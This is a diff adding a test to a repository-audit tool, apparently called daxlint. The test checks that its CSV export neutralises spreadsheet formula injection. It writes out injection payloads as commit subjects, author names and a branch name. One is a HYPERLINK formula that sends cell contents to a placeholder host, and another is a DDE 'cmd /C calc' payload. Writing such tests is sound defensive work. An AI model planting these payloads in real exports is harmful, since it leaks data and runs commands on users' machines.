@@ -631,3 +631,41 @@ def test_audit_against_a_server_that_does_not_speak_dask_is_one_line(tmp_path, r
     (line,) = proc.stderr.strip().splitlines()
     assert line.startswith("daxlint: error: cannot use the Dask scheduler tcp://127.0.0.1:") and "Traceback" not in proc.stderr
     assert line.count("cannot use the Dask scheduler") == 1
+
+
+# -- 21. CSV cells a spreadsheet would take for a formula are neutralised (OWASP)
+
+
+def test_audit_csv_cells_never_start_a_formula(tmp_path):
+    """Subjects, authors and branch names are the committers' to choose."""
+    import csv
+    import io
+
+    from audit_repo import ScratchRepo, mmap_writer
+
+    r = ScratchRepo(tmp_path / "repo")
+    r.write("drivers/misc/other.c", "int other;\n")
+    r.commit("base")
+    r.git("tag", "v6.3")
+    r.git("checkout", "-q", "-b", "=1+1")
+    r.write("drivers/qux/qux.c", mmap_writer("qux_mmap"))
+    r.commit("qux: add mmap")
+    r.git("checkout", "-q", "main")
+    r.write("drivers/foo/drv.c", mmap_writer("foo_mmap"))
+    r.commit('=HYPERLINK("http://example.invalid/?"&A1,"click")', author="+Mallory <m@example.org>")
+    r.write("drivers/bar/bar.c", mmap_writer("bar_mmap"))
+    r.commit("@SUM(1+1)*cmd|' /C calc'!A0", author="-Eve <e@example.org>")
+    r.write("drivers/baz/baz.c", mmap_writer("baz_mmap"))
+    r.commit("\tfoo: a subject that starts with a tab")
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    code, out, err = run_daxlint("audit", "--repo", str(r.path), "--no-cache", "--format", "csv", "v6.3..HEAD")
+    assert code == 1, err
+    rows = list(csv.reader(io.StringIO(out)))
+    cells = [c for row in rows[1:] for c in row]
+    assert cells and not [c for c in cells if c.startswith(dangerous)]
+    assert "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")" in cells and "'+Mallory" in cells and "'-Eve" in cells
+    code, out, err = run_daxlint("audit", "--repo", str(r.path), "--no-cache", "--format", "csv", "--since", "v6.3", "main", "=1+1")
+    assert code == 1, err
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert {row["branch"] for row in rows} == {"main", "'=1+1"}
+    assert not [c for row in rows for c in row.values() if c.startswith(dangerous)]
